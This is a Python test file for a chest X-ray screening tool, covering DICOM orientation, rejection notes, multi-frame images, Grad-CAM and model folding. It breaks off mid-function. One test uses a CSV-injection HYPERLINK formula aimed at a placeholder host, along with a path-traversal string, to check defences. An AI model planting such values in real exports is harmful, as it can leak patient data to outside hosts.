    save(make_dicom(chest_pixels, seed="upright", PatientOrientation=["L", "F"]), box / "upright.dcm")
    save(make_dicom(np.ascontiguousarray(np.rot90(chest_pixels, -1)), seed="side", PatientOrientation=["H", "L"]),
         box / "side.dcm")
    summary = run_batch([box], BatchOptions(out=out, gradcam="all"), model=model)
    studies = {r["files"][0].rsplit("/", 1)[-1]: r for r in summary.rows if r["kind"] == "study"}
    assert studies["side.dcm"]["score"] == pytest.approx(studies["upright.dcm"]["score"], abs=1e-5)
    text = pdf_text(out / studies["side.dcm"]["report"])
    assert "Stored on its side (Patient Orientation H\\L): turned upright, a quarter turn counter-clockwise" in text
    assert "Patient Orientation" not in pdf_text(out / studies["upright.dcm"]["report"])


def test_an_image_whose_jpeg_frame_was_cut_short_fails_its_study_not_scored_on_grey(tmp_path, model):
    """The JPEG baseline sample, its frame's codestream cut at two thirds in a file otherwise whole (a gateway
    that cut it): pydicom decodes it, the lower third grey. The file fails at decoding, naming why, and its
    study is failed in the worklist, with no score."""
    import pydicom
    from pydicom.encaps import encapsulate, generate_fragments

    box, out = tmp_path / "in", tmp_path / "out"
    box.mkdir()
    ds = pydicom.dcmread(SAMPLES / "study5_cr_jpeg_baseline" / "IM0001.dcm")
    stream = b"".join(generate_fragments(ds.PixelData))
    ds.PixelData = encapsulate([stream[:len(stream) * 2 // 3]])
    ds.save_as(box / "cut.dcm")
    summary = run_batch([box], BatchOptions(out=out), model=model)
    (study,) = [r for r in summary.rows if r["kind"] == "study"]
    (row,) = [r for r in summary.rows if r["kind"] == "file"]
    assert study["status"] == "failed" and study["score"] == "" and not study["report"]
    assert row["status"] == "failed" and row["step"] == "decode" and row["tag"] == "(7FE0,0010) PixelData"
    assert "end-of-image marker (FFD9): it was cut short" in row["reason"]
    assert "cut.dcm" in pdf_text(out / "worklist.pdf")


def test_an_image_turned_upright_by_its_presentation_state_is_scored_so_and_a_new_one_redoes_it(
        tmp_path, model, chest_pixels):
    """An image stored on its side without a Patient Orientation, its presentation state (GSPS) turning it
    upright on the PACS, was scored on its side. It is scored as the presentation shows it, its report says
    so, and a presentation state that comes later to the folder redoes the study on the next run."""
    import pydicom

    from cxrscreen.testing import make_presentation_state

    box, out = tmp_path / "in", tmp_path / "out"
    save(make_dicom(chest_pixels, seed="upright", study_seed="U"), box / "upright.dcm")
    side = save(make_dicom(np.ascontiguousarray(np.rot90(chest_pixels, 1)), seed="side", study_seed="S"),
                box / "side" / "side.dcm")
    summary = run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
    studies = {r["files"][0].rsplit("/", 1)[-1]: r for r in summary.rows if r["kind"] == "study"}
    sideways = studies["side.dcm"]["score"]
    assert sideways != pytest.approx(studies["upright.dcm"]["score"], abs=1e-3)

    save(make_presentation_state([pydicom.dcmread(side)], seed="ps", rotation=90, created="20261101121500"),
         box / "side" / "ps.dcm")
    summary = run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
    assert summary.reused == 1          # the upright study; the other has a new file
    studies = {r["files"][0].rsplit("/", 1)[-1]: r for r in summary.rows if r["kind"] == "study"}
    assert studies["side.dcm"]["score"] == pytest.approx(studies["upright.dcm"]["score"], abs=1e-5)
    text = pdf_text(out / studies["side.dcm"]["report"])
    assert "Shown as its presentation state ps.dcm of 2026-11-01 12:15 shows it: turned 90 degrees clockwise, " \
           "to be scored, and shown so here." in " ".join(text.split())
    row = next(r for r in summary.rows if r["kind"] == "file" and r["path"].endswith("ps.dcm"))
    assert row["status"] == "skipped" and "it shows 1 image turned 90 degrees clockwise" in row["reason"]


def test_a_rejected_image_is_not_scored_and_a_study_all_rejected_is_a_skipped_study(tmp_path, model, chest_pixels):
    """A PACS export carries a retake's rejected first exposure and a study made on the wrong patient's worklist
    entry, each withdrawn by its rejection note (IHE IOCM): neither is scored, nor the second reported under
    the patient it does not belong to. Run again into a folder where an earlier run reported the second, its
    row says that report no longer stands."""
    import pydicom

    from cxrscreen.testing import make_key_object_selection

    box, out = tmp_path / "in", tmp_path / "out"
    noise = np.random.default_rng(3).integers(0, 4096, chest_pixels.shape)
    save(make_dicom(chest_pixels, seed="kept", study_seed="S"), box / "s" / "kept.dcm")
    retake = save(make_dicom(noise, seed="first", study_seed="S"), box / "s" / "first_exposure.dcm")
    wrong = save(make_dicom(chest_pixels, seed="wrong", study_seed="W", patient_id="OTHER"), box / "w" / "w.dcm")
    before = {r["patient_id"]: r for r in run_batch([box], BatchOptions(out=out, gradcam="none"), model=model).rows
              if r["kind"] == "study"}      # the PACS withdraws them after this run
    assert before["OTHER"]["status"] == "scored" and (out / before["OTHER"]["report"]).is_file()
    save(make_key_object_selection([pydicom.dcmread(retake)], seed="r1"), box / "s" / "KO.dcm")
    save(make_key_object_selection([pydicom.dcmread(wrong)], seed="r2", code="113038",
                                   meaning="Incorrect Modality Worklist Entry"), box / "w" / "KO.dcm")
    summary = run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
    studies = {r["patient_id"]: r for r in summary.rows if r["kind"] == "study"}
    assert studies["SYNTH-0001"]["status"] == "scored"
    text = " ".join(pdf_text(out / studies["SYNTH-0001"]["report"]).split())
    assert "kept.dcm - view PA - score" in text and "first_exposure.dcm - view" not in text
    assert "(its one frontal image); threshold" in text        # the rejected exposure is not counted either
    assert "withdrawn on the PACS, not screened" in text      # listed among the files not scored
    assert studies["OTHER"]["status"] == "skipped" and not studies["OTHER"]["report"]
    assert "Incorrect Modality Worklist Entry" in studies["OTHER"]["reason"]
    files = {r["path"].rsplit("/", 1)[-1]: r for r in summary.rows if r["kind"] == "file"}
    assert files["first_exposure.dcm"]["status"] == "skipped" and "rejection note" in files["first_exposure.dcm"]["reason"]
    assert summary.exit_code == 0
    stale = f"its report of an earlier run into this folder, {before['OTHER']['report']}, no longer stands"
    assert studies["OTHER"]["reason"].endswith(stale) and studies["OTHER"]["flag"] == "no"
    assert stale not in studies["SYNTH-0001"]["reason"]
    assert studies["OTHER"]["withdrawn_report"] == before["OTHER"]["report"]
    worklist = " ".join(pdf_text(out / "worklist.pdf").split())     # where the report's link would be
    assert "skipped: nothing left to screen; its earlier report" in worklist and "no longer stands" in worklist
    again = run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)      # and every run after
    assert next(r for r in again.rows if r["patient_id"] == "OTHER" and r["kind"] == "study")["reason"].endswith(stale)


def test_a_withdrawn_studys_dicom_report_gets_a_rejection_note_of_its_own(tmp_path, model, chest_pixels,
                                                                         monkeypatch):
    """A study reported with --dicom whose image the PACS withdraws since (wrong worklist entry): its .dcm report,
    sent to the PACS, was left standing there. A later --dicom run writes a rejection note (IHE IOCM) of that
    report, with the images' reason, once; a study only left out by this run's options gets none (its images
    stand), nor does a run without --dicom write one."""
    import pydicom

    from cxrscreen.ingest import Selection, read_rejection
    from cxrscreen.testing import make_key_object_selection

    box, out = tmp_path / "in", tmp_path / "out"
    wrong = save(make_dicom(chest_pixels, seed="wrong", study_seed="W", patient_id="OTHER"), box / "w" / "w.dcm")
    save(make_dicom(chest_pixels, seed="lat", study_seed="L", patient_id="LATERAL", view_position="LL"),
         box / "l" / "l.dcm")
    wide = Selection(include_lateral=True)
    first = {r["patient_id"]: r for r in run_batch([box], BatchOptions(out=out, gradcam="none", dicom=True,
                                                                      selection=wide), model=model).rows
             if r["kind"] == "study"}
    sent = out / first["OTHER"]["report"].replace(".pdf", ".dcm")
    assert sent.is_file() and (out / first["LATERAL"]["report"].replace(".pdf", ".dcm")).is_file()
    save(make_key_object_selection([pydicom.dcmread(wrong)], seed="r2", code="113038",
                                   meaning="Incorrect Modality Worklist Entry"), box / "w" / "KO.dcm")

    def run(dicom: bool) -> dict:
        rows = run_batch([box], BatchOptions(out=out, gradcam="none", dicom=dicom), model=model).rows
        return {r["patient_id"]: r for r in rows if r["kind"] == "study"}

    without = run(dicom=False)
    assert not list(out.glob("*.rejection.dcm")) and "rejection_note" not in without["OTHER"]
    with monkeypatch.context() as patch:      # a full disk: the study fails (exit 1), the run's state is kept
        import cxrscreen.pipeline as pipeline

        def full(*args, **kwargs):
            raise OSError(28, "No space left on device")
        patch.setattr(pipeline, "write_rejection_note", full)
        failing = run_batch([box], BatchOptions(out=out, gradcam="none", dicom=True), model=model)
    row = next(r for r in failing.rows if r["kind"] == "study" and r["patient_id"] == "OTHER")
    assert (row["status"], row["step"], failing.exit_code) == ("failed", "report", 1) and "rejection_note" not in row
    assert row["reason"].endswith("cannot write the rejection note of the study's DICOM report: "
                                  "No space left on device")
    studies = run(dicom=True)                                  # the next run writes it
    name = first["OTHER"]["report"].replace(".pdf", ".rejection.dcm")
    assert studies["OTHER"]["rejection_note"] == name and [p.name for p in out.glob("*.rejection.dcm")] == [name]
    assert studies["OTHER"]["reason"].endswith(f"; rejection note {name} withdraws its DICOM report {sent.name} "
                                               "on the PACS")
    assert studies["LATERAL"]["status"] == "skipped" and "no longer stands" in studies["LATERAL"]["reason"]
    assert "rejection_note" not in studies["LATERAL"]         # left out by the options: its report still stands

    note, report = pydicom.dcmread(out / name), pydicom.dcmread(sent)
    assert note.SOPClassUID == "1.2.840.10008.5.1.4.1.1.88.59" and note.Modality == "KO"
    title = note.ConceptNameCodeSequence[0]
    assert (title.CodeValue, title.CodingSchemeDesignator, title.CodeMeaning) == (
        "113038", "DCM", "Incorrect Modality Worklist Entry")                      # the images' reason
    assert (note.StudyInstanceUID, note.PatientID, note.PatientName, note.AccessionNumber) == (
        report.StudyInstanceUID, report.PatientID, report.PatientName, report.AccessionNumber)
    assert note.SeriesInstanceUID not in (report.SeriesInstanceUID, pydicom.dcmread(wrong).SeriesInstanceUID)
    (evidence,) = note.CurrentRequestedProcedureEvidenceSequence
    (series,) = evidence.ReferencedSeriesSequence
    assert series.SeriesInstanceUID == report.SeriesInstanceUID
    assert [(r.ReferencedSOPClassUID, r.ReferencedSOPInstanceUID) for r in series.ReferencedSOPSequence] == [
        (report.SOPClassUID, report.SOPInstanceUID)]
    assert [i.ValueType for i in note.ContentSequence] == ["TEXT", "COMPOSITE"]
    assert note.ContentSequence[1].ReferencedSOPSequence[0].ReferencedSOPInstanceUID == report.SOPInstanceUID
    assert "Incorrect Modality Worklist Entry" in note.ContentSequence[0].TextValue
    # read as any rejection note is read: it withdraws the report, and nothing else
    assert read_rejection(out / name, note).images == {report.SOPInstanceUID}
    worklist = " ".join(pdf_text(out / "worklist.pdf").split())
    assert f"withdrawn on the PACS by {name}" in worklist

    written = (out / name).stat().st_mtime_ns
    again = run(dicom=True)                                       # written once, named by every run after
    assert again["OTHER"]["rejection_note"] == name and (out / name).stat().st_mtime_ns == written


def test_a_multi_frame_image_is_scored_on_its_first_frame_and_every_output_says_so(tmp_path, model, chest_pixels):
    other = np.random.default_rng(7).integers(0, 4096, chest_pixels.shape)     # frames 2 and 3: noise
    box, out = tmp_path / "in", tmp_path / "out"
    save(make_dicom(chest_pixels, seed="single", bits_stored=12), box / "single.dcm")
    save(make_dicom(chest_pixels, seed="multi", bits_stored=12, more_frames=[other, other]), box / "multi.dcm")
    summary = run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
    studies = {r["files"][0].rsplit("/", 1)[-1]: r for r in summary.rows if r["kind"] == "study"}
    assert studies["multi.dcm"]["status"] == studies["single.dcm"]["status"] == "scored"
    assert studies["multi.dcm"]["score"] == pytest.approx(studies["single.dcm"]["score"], abs=1e-5)
    text = pdf_text(out / studies["multi.dcm"]["report"])
    assert "frame 1 of 3 was scored" in text and "the other 2 were not" in text
    assert "frame 1 of" not in pdf_text(out / studies["single.dcm"]["report"])
    # the summary and the worklist say it too: a reader of the list alone knows frames went unscored
    assert (studies["multi.dcm"]["unscored_frames"], studies["single.dcm"]["unscored_frames"]) == (2, 0)
    assert summary.unscored_frames == 2 and json.loads((out / "summary.json").read_text())["unscored_frames"] == 2
    with open(out / "summary.csv", newline="") as handle:
        assert sorted(r["unscored_frames"] for r in csv.DictReader(handle) if r["kind"] == "study") == ["0", "2"]
    assert "2 frames of multi-frame images not scored" in pdf_text(out / "worklist.pdf")
    # rows saved by a cxrscreen that had no such column are redone, not reused with the column blank
    state = json.loads((out / STATE_FILE).read_text())
    for entry in state.values():
        del entry["row"]["unscored_frames"]
    (out / STATE_FILE).write_text(json.dumps(state))
    again = run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
    assert again.reused == 0 and again.unscored_frames == 2
    assert run_batch([box], BatchOptions(out=out, gradcam="none"), model=model).reused == 2


def test_header_text_a_spreadsheet_would_run_is_written_as_text_in_the_csv_excel_reads_as_utf8(tmp_path, chest_pixels,
                                                                                                model):
    """A PatientID or Accession Number of =HYPERLINK(...) from a sender's header must not become a formula when
    summary.csv is opened in Excel or LibreOffice (CSV injection): the cell gets an apostrophe before it. The JSON,
    for programs, keeps the values as read."""
    box, out = tmp_path / "in", tmp_path / "out"
    box.mkdir()
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"open")'
    save(make_dicom(chest_pixels, seed="formula", patient_id=hostile, AccessionNumber="@SUM(1+1)"), box / "a.dcm")
    save(make_dicom(chest_pixels, seed="minus", patient_id="-42", patient_name="Müller^Jürgen=山田^太郎",
                    SpecificCharacterSet="ISO_IR 192"), box / "b.dcm")
    run_batch([box], BatchOptions(out=out, gradcam="none"), model=model)
    # UTF-8 with a byte-order mark: without one Excel reads the file in the system's code page (MÃ¼ller)
    assert (out / "summary.csv").read_bytes().startswith(b"\xef\xbb\xbfrank,kind,")
    with open(out / "summary.csv", newline="", encoding="utf-8-sig") as handle:
        rows = {r["patient_id"]: r for r in csv.DictReader(handle) if r["kind"] == "study"}
    assert set(rows) == {"'" + hostile, "'-42"} and rows["'-42"]["patient_name"] == "Müller^Jürgen=山田^太郎"
    assert rows["'" + hostile]["accession"] == "'@SUM(1+1)"
    assert float(rows["'-42"]["score"]) >= 0            # numbers stay numbers
    data = json.loads((out / "summary.json").read_text())
    assert {r["patient_id"] for r in data["rows"] if r["kind"] == "study"} == {hostile, "-42"}


def test_a_card_without_test_figures_at_its_threshold_quotes_its_validation_split(model):
    from cxrscreen.infer import ModelCard
    from cxrscreen.pipeline import card_operating_point

    assert card_operating_point(model.card)["specificity"] == pytest.approx(0.7607, abs=1e-4)
    raw = json.loads(json.dumps(model.card.raw))
    raw["metrics"]["test"]["threshold"] = 0.5                 # measured at another threshold: not this one's
    moved = card_operating_point(ModelCard.from_json(raw))
    raw["metrics"]["test"] = None                             # a card fitted with --no-test
    untested = card_operating_point(ModelCard.from_json(raw))
    for point in (moved, untested):
        assert point["specificity"] == pytest.approx(0.9836, abs=1e-4)
        assert point["source"] == "the model's validation split (model card), where the threshold was chosen"


def test_safe_name_rules():
    assert safe_name("../../etc") == "etc"
    assert safe_name("CON") == "x_CON"
    assert safe_name("") == "unknown"
    assert len(safe_name("y" * 300)) <= 60


def test_dates_times_and_ages_read_as_a_reader_writes_them():
    from cxrscreen.report import display_age, display_date, display_time

    assert [display_date(d) for d in ("20230120", "2023.01.20", "2023", "")] == ["2023-01-20", "2023-01-20", "2023", ""]
    assert [display_time(t) for t in ("143205.123", "1432", "14:32:05", "14", "")] == \
        ["14:32:05", "14:32", "14:32:05", "14", ""]
    assert [display_age(a, "", "") for a in ("003Y", "018M", "001D", "002W")] == \
        ["3 years", "18 months", "1 day", "2 weeks"]
    # 000Y is what modalities write for an unknown age: the dates decide, and without them it stays as written
    assert display_age("000Y", "20230120", "20261101") == "3 years (from the birth date)"
    assert display_age("", "20250120", "20261101") == "21 months (from the birth date)"
    assert [display_age(a, "", "") for a in ("", "000Y", "3 yrs")] == ["", "000Y", "3 yrs"]


def test_gradcam_shape_and_not_constant(model):
    layer = find_gradcam_layer(model.keras_model)
    assert layer == model.card.gradcam_layer
    paths = [SAMPLES / "study1_cr_mono1_j2k" / "IM0001.dcm", SAMPLES / "study3_pa_and_lateral" / "IM0001.dcm",
             SAMPLES / "study5_cr_jpeg_baseline" / "IM0001.dcm", SAMPLES / "study6_plain_jpeg" / "chest_export.jpg"]
    images = np.stack([load_model_input(p, model.card.preprocessing) for p in paths])
    cam = GradCam(model.keras_model)
    assert cam.method == "forward"          # the pooled head: no gradient needed, any backend
    scores, cams = cam(images)
    assert cams.shape[0] == 4 and cams.ndim == 3 and cams.shape[1] >= 7
    # exactly the heatmaps that differentiating the logit gives
    by_gradient = _gradient_cam(model.keras_model, members(model.keras_model), layer)
    gradient_scores, gradient_cams = (np.asarray(a) for a in by_gradient(images))
    np.testing.assert_allclose(scores, gradient_scores, atol=1e-5)
    np.testing.assert_allclose(cams, gradient_cams, atol=1e-4)
    assert cams.min() >= 0 and cams.max() <= 1
    np.testing.assert_allclose(scores, model.predict(images), atol=1e-4)
    # the image the model finds most suspicious has a heatmap that points somewhere
    top = int(np.argmax(scores))
    assert cams[top].std() > 0.01 and cams[top].max() == pytest.approx(1.0)
    # a heatmap is zero where no region raised the score, never negative or NaN
    assert np.isfinite(cams).all()
    image = images[top]
    picture = overlay(image[..., 0], cams[top])
    assert picture.shape == (224, 224, 3) and picture.dtype == np.uint8


def test_batches_are_padded_to_a_few_shapes_and_padding_changes_no_score(model):
    """A compiled backend compiles once per batch shape (XLA on a GPU: seconds each): a run's last
    batch and every watch round are padded to a power of two or the run's batch size."""
    from cxrscreen.infer import bucket_size

    assert [bucket_size(n, 16) for n in (1, 2, 3, 5, 9, 15, 16)] == [1, 2, 4, 8, 16, 16, 16]
    assert [bucket_size(n, 24) for n in (13, 17, 24)] == [16, 24, 24]
    assert bucket_size(3) == 4 and bucket_size(40, 32) == 64       # larger than the run's batch: next power
    assert len({bucket_size(n, 32) for n in range(1, 33)}) == 6
    paths = [SAMPLES / "study1_cr_mono1_j2k" / "IM0001.dcm", SAMPLES / "study5_cr_jpeg_baseline" / "IM0001.dcm",
             SAMPLES / "study6_plain_jpeg" / "chest_export.jpg"]
    images = np.stack([load_model_input(p, model.card.preprocessing) for p in paths])
    cam = GradCam(model.keras_model, batch_size=16)
    shapes = []
    compiled = cam._run
    cam._run = lambda batch: shapes.append(batch.shape[0]) or compiled(batch)
    scores, cams, pooled = cam.run(images)
    assert shapes == [4] and scores.shape == (3,) and cams.shape[0] == 3 and pooled.shape[0] == 3
    for i in range(3):                                  # each image alone (padded to 1: no padding)
        alone, alone_cam, _ = cam.run(images[i:i + 1])
        np.testing.assert_allclose(alone, scores[i:i + 1], atol=1e-6)
        np.testing.assert_allclose(alone_cam, cams[i:i + 1], atol=1e-5)
    assert shapes == [4, 1, 1, 1]
    np.testing.assert_allclose(model.predict(images, 16), scores, atol=1e-5)


def _conv_bn_model(name: str = "net"):
    """A small network of every case fold_batch_norm meets: Conv2D and DepthwiseConv2D (multiplier 2) followed by
    batch normalisations with trained statistics (one without gamma and beta), a convolution with an activation
    of its own, and one whose output also goes elsewhere; a pooled Dense head."""
    import keras
    from keras import layers

    inputs = keras.Input((16, 16, 1))
    x = layers.Conv2D(4, 3, padding="same", use_bias=False, name="stem")(inputs)
    x = layers.ReLU(6.0)(layers.BatchNormalization(name="stem_bn")(x))
    x = layers.DepthwiseConv2D(3, depth_multiplier=2, padding="same", use_bias=False, name="dw")(x)
    x = layers.ReLU(6.0)(layers.BatchNormalization(center=False, scale=False, name="dw_bn")(x))
    x = layers.BatchNormalization(name="after_relu_bn")(layers.Conv2D(8, 1, activation="relu", name="relu_conv")(x))
    shared = layers.Conv2D(8, 1, name="shared")(x)
    x = layers.Add()([layers.BatchNormalization(name="shared_bn")(shared), shared])
    x = layers.Conv2D(6, 3, strides=2, padding="same", name="top")(x)
    x = layers.ReLU(name="features")(layers.BatchNormalization(name="top_bn")(x))
    output = layers.Dense(1, activation="sigmoid")(layers.GlobalAveragePooling2D()(x))
    model = keras.Model(inputs, output, name=name)
    rng = np.random.default_rng(len(name))
    for layer in model.layers:
        if isinstance(layer, layers.BatchNormalization):
            mean, var = layer.moving_mean, layer.moving_variance
            mean.assign(rng.normal(0, 0.5, mean.shape).astype("float32"))
            var.assign(rng.uniform(0.2, 3, var.shape).astype("float32"))
            if layer.scale:
                layer.gamma.assign(rng.uniform(0.5, 2, layer.gamma.shape).astype("float32"))
                layer.beta.assign(rng.normal(0, 0.5, layer.beta.shape).astype("float32"))
    return model


def test_batch_normalisations_are_folded_into_the_convolutions_before_them_for_the_same_scores():
    """fold_batch_norm folds a normalisation into the Conv2D or DepthwiseConv2D before it, and only where that
    convolution has no activation and feeds nothing else; the model it was given is left as it was, nested
    models (an ensemble's members, of the same layer names) are folded alike, and every layer keeps its name."""
    import keras

    from cxrscreen.infer import fold_batch_norm

    model = _conv_bn_model()
    saved = [w.copy() for w in model.get_weights()]
    x = np.random.default_rng(1).random((5, 16, 16, 1)).astype(np.float32)
    folded = fold_batch_norm(model)
    kinds = {layer.name: type(layer).__name__ for layer in folded.layers}
    assert [layer.name for layer in folded.layers[1:]] == [layer.name for layer in model.layers[1:]]   # not Input
    assert {n for n, kind in kinds.items() if kind == "Unchanged"} == {"stem_bn", "dw_bn", "top_bn"}
    assert kinds["after_relu_bn"] == kinds["shared_bn"] == "BatchNormalization"
    np.testing.assert_allclose(folded.predict_on_batch(x), model.predict_on_batch(x), atol=1e-6)
    assert all(np.array_equal(a, b) for a, b in zip(model.get_weights(), saved))
    # the Grad-CAM layer's output is read: a convolution named to keep is not folded, and its features are the same
    kept = fold_batch_norm(model, keep={"top"})
    assert type(kept.get_layer("top_bn")).__name__ == "BatchNormalization"
    assert GradCam(folded, "features").method == "forward"
    for a, b in zip(GradCam(folded, "features").run(x), GradCam(model, "features").run(x)):
        np.testing.assert_allclose(a, b, atol=1e-5)

    members = [_conv_bn_model("m1"), _conv_bn_model("m2")]
    inputs = keras.Input((16, 16, 1))
    ensemble = keras.Model(inputs, keras.layers.Average()([m(inputs) for m in members]))
    folded = fold_batch_norm(ensemble)
    assert all(type(m.get_layer("stem_bn")).__name__ == "Unchanged" for m in folded.layers[1:3])
    np.testing.assert_allclose(folded.predict_on_batch(x), ensemble.predict_on_batch(x), atol=1e-6)


def test_a_model_whose_fold_changes_its_scores_or_that_cannot_be_cloned_is_screened_as_saved(monkeypatch, caplog):
    """The folded model is checked on a probe batch against the model as saved, its scores and its Grad-CAM
    features; a fold that changes them, or a model that cannot be cloned, leaves the model as saved to screen."""
    import keras

    from cxrscreen import infer

    model = _conv_bn_model()
    right = infer._folded_weights
    monkeypatch.setattr(infer, "_folded_weights", lambda conv, bn: [w * 1.5 for w in right(conv, bn)])
    with caplog.at_level("WARNING", logger="cxrscreen"):
        assert infer.fold_batch_norm(model) is model
    assert "changed the model's scores" in caplog.text and "screened as saved" in caplog.text
    # a score of 1 either way (the sigmoid saturated) hides nothing: the Grad-CAM features are compared too
    head = model.layers[-1]
    head.bias.assign(np.full(head.bias.shape, 80.0, np.float32))
    caplog.clear()
    with caplog.at_level("WARNING", logger="cxrscreen"):
        assert infer.fold_batch_norm(model, keep={"features"}) is model
    assert "screened as saved" in caplog.text
    monkeypatch.undo()

    class Subclassed(keras.Model):
        def __init__(self):
            super().__init__()
            self.conv, self.bn = keras.layers.Conv2D(2, 3), keras.layers.BatchNormalization()

        def call(self, x):
            return self.bn(self.conv(x))

    subclassed = Subclassed()
    subclassed(np.zeros((1, 8, 8, 1), np.float32))
    assert infer.fold_batch_norm(subclassed) is subclassed


def test_the_default_model_is_screened_folded_with_the_scores_of_the_model_as_saved(model):
    paths = [SAMPLES / "study1_cr_mono1_j2k" / "IM0001.dcm", SAMPLES / "study5_cr_jpeg_baseline" / "IM0001.dcm",
             SAMPLES / "study6_plain_jpeg" / "chest_export.jpg"]
    images = np.stack([load_model_input(p, model.card.preprocessing) for p in paths])
    assert model.screening_model is not model.keras_model
    assert sum(type(layer).__name__ == "Unchanged" for layer in model.screening_model.layers) == 49
    np.testing.assert_allclose(model.predict(images), model.keras_model.predict_on_batch(images).ravel(), atol=1e-5)
    folded, as_saved = (GradCam(m, model.card.gradcam_layer).run(images) for m in
                        (model.screening_model, model.keras_model))
    for a, b in zip(folded, as_saved):
        np.testing.assert_allclose(a, b, atol=1e-4)


def test_gradcam_of_other_heads_differentiates():
    """A head that is not pooling + one Dense unit (here Flatten) takes the gradient path; the
    forward path would be wrong for it."""
    import keras

    inputs = keras.Input((16, 16, 1))
    features = keras.layers.Conv2D(4, 3, padding="same", activation="relu", name="features")(inputs)
    output = keras.layers.Dense(1, activation="sigmoid")(keras.layers.Flatten()(features))
    cam = GradCam(keras.Model(inputs, output))
    assert cam.layer_name == "features" and cam.method == "gradient"
    scores, cams = cam(np.random.default_rng(0).random((3, 16, 16, 1)).astype(np.float32))
    assert scores.shape == (3,) and cams.shape == (3, 16, 16) and np.isfinite(cams).all()


SCREEN_ON_BACKEND = """
import json, sys
import numpy as np
from cxrscreen.explain import GradCam
from cxrscreen.infer import load_model
from cxrscreen.normalise import load_model_input
model = load_model()
images = np.stack([load_model_input(p, model.card.preprocessing) for p in sys.argv[1:]])
scores, cams = GradCam(model.keras_model)(images)
import keras
if keras.backend.backend() == "jax":
    import jax
    precision = [jax.config.jax_default_matmul_precision]
else:
    import torch
    precision = [torch.backends.cuda.matmul.fp32_precision, torch.backends.cudnn.conv.fp32_precision]
print(json.dumps({"compute": model.compute, "predict": model.predict(images).tolist(),
                  "scores": scores.tolist(), "cams": cams.tolist(), "precision": precision}))
"""


@pytest.mark.parametrize("backend", ["jax", "torch"])
def test_screening_gives_the_same_scores_and_heatmaps_on_every_keras_backend(backend, model):
    """The model and Grad-CAM run on Keras' JAX and PyTorch backends (a GPU server without
    TensorFlow) and agree with TensorFlow."""
    import importlib.util
    import os
    import subprocess
    import sys

    if importlib.util.find_spec(backend) is None:
        pytest.skip(f"{backend} is not installed")
    paths = [SAMPLES / "study1_cr_mono1_j2k" / "IM0001.dcm", SAMPLES / "study5_cr_jpeg_baseline" / "IM0001.dcm",
             SAMPLES / "study6_plain_jpeg" / "chest_export.jpg"]
    images = np.stack([load_model_input(p, model.card.preprocessing) for p in paths])
    scores, cams = GradCam(model.keras_model)(images)
    env = dict(os.environ, KERAS_BACKEND=backend, CUDA_VISIBLE_DEVICES="", JAX_PLATFORMS="cpu")
    done = subprocess.run([sys.executable, "-c", SCREEN_ON_BACKEND, *map(str, paths)], env=env, cwd=ROOT,
                          capture_output=True, text=True, timeout=600)
    assert done.returncode == 0, done.stderr[-3000:]
    other = json.loads(done.stdout.strip().splitlines()[-1])
    assert other["compute"] == f"{backend} on CPU"
    # on a GPU these backends would compute convolutions in TF32 unless told otherwise (see full_precision)
    assert other["precision"] == (["highest"] if backend == "jax" else ["ieee", "ieee"])
    np.testing.assert_allclose(other["scores"], scores, atol=1e-5)
    np.testing.assert_allclose(other["predict"], scores, atol=1e-5)
    np.testing.assert_allclose(other["cams"], cams, atol=1e-4)
    assert model.compute.startswith("tensorflow on ")
    import tensorflow as tf

    assert not tf.config.experimental.tensor_float_32_execution_enabled()


# What TensorFlow 2.21 wrote to stderr as it started on a CPU server (two copies of absl logging), whatever
# TF_CPP_MIN_LOG_LEVEL said, with lines that must stay shown mixed in
TF_START = """WARNING: All log messages before absl::InitializeLog() is called are written to STDERR
I0000 00:00:1795499552.649766    6081 port.cc:153] oneDNN custom operations are on. You may see slightly different.
I0000 00:00:1795499552.650094    6081 cudart_stub.cc:31] Could not find cuda drivers on your machine, GPU will not be used.
I0000 00:00:1795499552.695142    6081 cpu_feature_guard.cc:227] This TensorFlow binary is optimized to use CPU instructions.
To enable the following instructions: AVX2 AVX512F FMA, in other operations, rebuild TensorFlow.
/x/keras/src/saving.py:12: UserWarning: a warning of Python's
W0000 00:00:1795499552.700000    6081 gpu_device.cc:2] a warning
WARNING:absl:a line of absl's Python logging
E0000 00:00:1795499553.995504    6081 cuda_platform.cc:52] failed call to cuInit: INTERNAL: CUDA error (303)
E0000 00:00:1795499553.995600    6081 other.cc:7] another error
  and its second line
"""


@pytest.mark.parametrize("level, shown", [
    (2, ["/x/keras/src/saving.py:12: UserWarning: a warning of Python's", "WARNING:absl:a line of absl's Python logging",
         "E0000 00:00:1795499553.995600    6081 other.cc:7] another error", "  and its second line"]),
    (1, ["/x/keras/src/saving.py:12: UserWarning: a warning of Python's",
         "W0000 00:00:1795499552.700000    6081 gpu_device.cc:2] a warning", "WARNING:absl:a line of absl's Python logging",
         "E0000 00:00:1795499553.995600    6081 other.cc:7] another error", "  and its second line"]),
    (3, ["/x/keras/src/saving.py:12: UserWarning: a warning of Python's", "WARNING:absl:a line of absl's Python logging"]),
    (0, TF_START.splitlines()),
])
def test_the_backends_start_up_lines_are_shown_as_its_log_level_says(level, shown):
    """TF_CPP_MIN_LOG_LEVEL (2 unless set) decides which of TensorFlow's start-up log lines are shown; the CUDA
    failure that follows from having no CUDA driver at all (a CPU server) is not an error worth showing."""
    from cxrscreen.infer import start_up_lines

    assert start_up_lines(TF_START, level).splitlines() == shown
    with_driver = TF_START.replace("Could not find cuda drivers on your machine", "Found a driver")
    assert ("failed call to cuInit" in start_up_lines(with_driver, level)) == (level <= 2)   # a GPU server: shown


def test_what_the_backend_writes_to_stderr_as_it_starts_is_filtered_where_the_libraries_write_it(capfd):
    """The C++ libraries write to file descriptor 2, not to sys.stderr: that is what is caught, and what is kept
    is written back once the block ends (also when it raises)."""
    import os

    from cxrscreen.infer import _stderr_kept

    with pytest.raises(RuntimeError), _stderr_kept(lambda text: text.replace("noise\n", "")):
        os.write(2, b"noise\nkept\n")
        raise RuntimeError
    assert capfd.readouterr().err == "kept\n"


def test_a_command_starts_without_the_backends_start_up_noise(tmp_path):
    """The first lines of every command were TensorFlow's C++ start-up log (seven on a CPU server, one an
    "E" line about CUDA): with TF_CPP_MIN_LOG_LEVEL unset, starting the backend now writes none of them."""
    import os
    import subprocess
    import sys

